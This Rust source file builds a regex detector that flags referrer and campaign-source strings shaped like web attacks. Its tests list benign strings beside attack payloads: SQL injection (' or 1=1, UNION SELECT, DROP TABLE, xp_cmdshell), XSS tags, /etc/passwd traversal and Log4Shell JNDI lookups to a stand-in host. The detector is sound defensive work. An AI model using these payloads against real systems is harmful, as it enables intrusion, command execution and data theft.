//! Texts that are attacks: what scanners send where a referrer or a campaign's source belongs.
//!
//! A shape is told by its structure, never by a word of it: links and names of campaigns hold such words, too. Browsers
//! escape blanks and angle brackets in what they send as a referrer, so that shapes with these are no browser's there.
//!
//! It knows nothing of hosts.

use regex::{Regex, RegexBuilder};

/// What no person's link and no campaign's name has. In them a blank stands for any blanks, and for comments of SQL.
const SHAPES: &[&str] = &[
    // ' or 1=1, 1 and 2>1, ' or 'a'='a
    r#"\b(?:or|and|xor) (?:not )?['"(]*\d+['")]*\s*(?:=|<|>|like\b)\s*['"(]*\d"#,
    r#"['"]\)*\s*(?:or|and|xor|\|\||&&)\s*\(*['"]\w*['"]\s*(?:=|<|>|like\b)"#,
    // 1 union select password, ' union select x, union all select x, union select 1,2 or (select ...
    r#"(?:^\s*-?\d+|['")])\)* union (?:all |distinct )?select\b"#,
    r"\bunion all select\b",
    r#"\bunion (?:distinct )?select (?:null\b|\d+\s*(?:,|--|#)|[*'"(@]|\w+\(|[\w.]+\s*,|[\w.]+ from [\w.]+)"#,
    // select * from users, select version(), (select x from y), select x from information_schema
    r"\bselect (?:[*]|count\([^)]*\)) from\b",
    r"\bselect (?:version|user|database|sleep|pg_sleep|benchmark|load_file|concat|char|chr|extractvalue|updatexml)\(",
    r"(?:[=,+|(<>-]|\b(?:and|or|not|in|exists))\s*\(\s*select [^()]+ from\b",
    r"(?:;|^\s*\()\s*select [^()]+ from [\w.]+ where\b",
    r"\bfrom (?:information_schema\.|pg_catalog\.|mysql\.user\b|sysobjects\b|dual\b)",
    r"\bselect @@\w",
    r#"['";]\)*\s*(?:drop|truncate|alter) (?:table|database) "#,
    // sleep(5), but not the manual's page sleep(3): a number below a slash
    r#"(?:^|[^\w/?.-]|\d-|['"]\s*-)(?:pg_)?sleep\(\s*['"]?\d{1,4}(?:\.\d+)?['"]?\s*(?:,|\)(?:\W|$))"#,
    r"\bpg_sleep\(\s*\d",
    r"\bbenchmark\(\s*\d{3,}\s*,",
    r"\b(?:extractvalue|updatexml)\(\s*[\w']+\s*,",
    r"\bdbms_pipe\.receive_message\(",
    r"\bexec(?:ute)? (?:master\.*)?xp_cmdshell\b",
    r#"\bwaitfor delay\s*\(?['"\d@]"#,
    // <script>, <img src=x onerror=...
    r"<\s*/?script(?:[\s/>]|$)",
    r"<\s*(?:img|svg|iframe|body|input|details|video)\b[^>]*[\s/]on\w+\s*=",
    // ../../../x, ../etc/passwd, =/etc/passwd
    r"^\s*(?:\.\.[/\\]){2}",
    r"(?:\.\.[/\\]){3}",
    r"\.\.[/\\]+(?:etc|proc|windows|winnt|boot\.ini|web-inf)\b",
    r"(?:^|[=:]/*)/etc/(?:passwd|shadow)\b",
    // ${jndi:ldap://...}, also in pieces
    r"\$\{\s*(?:jndi:|(?:lower|upper|env|sys|base64|::-)[^}]*\})",
];

/// Bytes of a text that are looked at.
const BYTES_MAX: usize = 8 << 10;

/// The shapes as one.
pub struct Attacks {
    shapes: Regex,
}

impl Attacks {
    /// Compiles the table.
    pub fn new() -> Result<Self, regex::Error> {
        let shapes: Vec<String> = SHAPES
            .iter()
            .map(|shape| format!("(?:{})", shape.replace(' ', r"(?:\s|/\*[^*]*\*/)+")))
            .collect();
        Ok(Self { shapes: RegexBuilder::new(&shapes.join("|")).case_insensitive(true).build()? })
    }

    /// Whether the text is an attack.
    pub fn hold(&self, text: &str) -> bool {
        may_be_one(text.as_bytes()) && self.shapes.is_match(beginning(text))
    }
}

/// Whether the text has something that all shapes have, and hardly any link.
fn may_be_one(text: &[u8]) -> bool {
    let is_telling =
        |byte: &u8| matches!(byte, b' ' | b'\t' | b'\r' | b'\n' | b'(' | b'<' | b'{' | b'\'' | b'"' | b'*');
    text.iter().any(is_telling)
        || text.windows(2).any(|pair| pair == b"..")
        || text.windows(5).any(|part| part == b"/etc/")
}

fn beginning(text: &str) -> &str {
    text.get(..text.floor_char_boundary(BYTES_MAX)).unwrap_or(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Referrers that browsers send, and sources of campaigns that people name.
    const REAL: &[&str] = &[
        "",
        "https://example.com/",
        "Select Newsletter",
        "Amex Select Offers",
        "preselect club",
        "select this",
        "select",
        "select ",
        "Select 5 from 10",
        "Select gifts from Amex",
        "select bed, bath from Target",
        "Credit Union Select",
        "Credit Union Select 5",
        "Union Select",
        "Editor's Select",
        "Editors' picks (select titles from May)",
        "Update and delete",
        "Drop Table Tennis",
        "Waitfor Delay",
        "Rock or Pop",
        "2 or 3 = more",
        "This and that = fun",
        "Rock 'n' Roll",
        "Trick 'or' Treat",
        "O'Reilly or Packt",
        "Sleep (Deep)",
        "sleep()",
        "Sleep(2)gether",
        "Benchmark (2026)",
        "I <3 you",
        "<scripted>",
        "a < b",
        "${name}",
        "../",
        "...",
        "wait...//",
        "Newsletter {{month}}",
        "50% off (select items)",
        "https://man7.org/linux/man-pages/man2/select(2).html",
        "https://man7.org/linux/man-pages/man3/sleep(3).html",
        "https://man.openbsd.org/sleep(3)",
        "https://man.freebsd.org/cgi/man.cgi?sleep(3)",
        "https://stackoverflow.com/questions/123/javascript-sleep()",
        "https://stackoverflow.com/questions/123/what-does-sleep(5)-do",
        "https://www.w3schools.com/sql/sql_select.asp?q=select+*+from+users",
        "https://example.com/?q=%27%20or%201%3D1",
        "https://dev.mysql.com/doc/refman/8.4/en/union.html",
        "https://dev.mysql.com/doc/refman/8.4/en/information-functions.html#function_benchmark",
        "https://docs.example.com/sql/benchmark(count,expr)",
        "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
        "https://en.wikipedia.org/wiki//etc/passwd",
        "https://en.wikipedia.org/wiki/Union_(SQL)",
        "https://de.wikipedia.org/wiki/O'Reilly_(Verlag)",
        "https://example.com/login?next=../../account",
        "https://example.com/?q=%3Cscript%3E",
        "https://example.com/a/..%2F..%2Fb",
        "https://logging.apache.org/log4j/2.x/manual/lookups.html#jndi",
        "android-app://com.google.android.gm/",
    ];

    const ATTACKING: &[&str] = &[
        "' or 1=1",
        "1 OR 1=1",
        "x' OR 1=1-- -",
        "1) and (2=2",
        "1 AND 5821=5821",
        "' or 'a'='a",
        "\" or \"\"=\"",
        "admin' || '1'='1",
        "1 union select password",
        "' union select a from b",
        "x UNION ALL SELECT x",
        "-1/**/union/**/select/**/1,2,3",
        "a union select null, null--",
        "a union select version()",
        "a union select name from users",
        "select * from users",
        "SELECT COUNT(*) FROM users",
        "1;select version()",
        "(select password from users where id=1)",
        "a'; DROP TABLE users; --",
        "select @@version",
        "select a from information_schema.tables",
        "sleep(5)",
        "https://example.com/?q=sleep(5)",
        "1-sleep(5)",
        "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
        "1; select pg_sleep(5)",
        "(SELECT 4 FROM PG_SLEEP(5))",
        "-1 or pg_sleep(5)--",
        "benchmark(5000000,md5(1))",
        "extractvalue(1,concat(0x7e))",
        "'||DBMS_PIPE.RECEIVE_MESSAGE(CHR(98),15)||'",
        "1; exec master..xp_cmdshell 'dir'",
        "1 waitfor delay '0:0:15' --",
        "1'; WAITFOR DELAY '0:0:5'",
        "<script>alert(1)</script>",
        "\"><script src=//x>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "../../",
        "../../../../etc/passwd",
        "https://example.com/?f=../../../x",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "https://example.com/?f=/etc/passwd",
        "file:///etc/passwd",
        "${jndi:ldap://x.example/a}",
        "${${lower:j}ndi:ldap://x.example/a}",
        "${${::-j}ndi:rmi://x.example/a}",
    ];

    #[test]
    fn people_s_links_are_no_attacks() {
        let attacks = Attacks::new().unwrap();
        let taken: Vec<_> = REAL.iter().filter(|text| attacks.hold(text)).collect();
        assert!(taken.is_empty(), "{taken:#?}");
    }

    #[test]
    fn attacks_are_told_by_their_shape() {
        let attacks = Attacks::new().unwrap();
        let missed: Vec<_> = ATTACKING.iter().filter(|text| !attacks.hold(text)).collect();
        assert!(missed.is_empty(), "{missed:#?}");
        assert!(
            !attacks.hold(&format!("{} é ' or 1=1", "é".repeat(BYTES_MAX))),
            "texts are looked at in part"
        );
    }
}
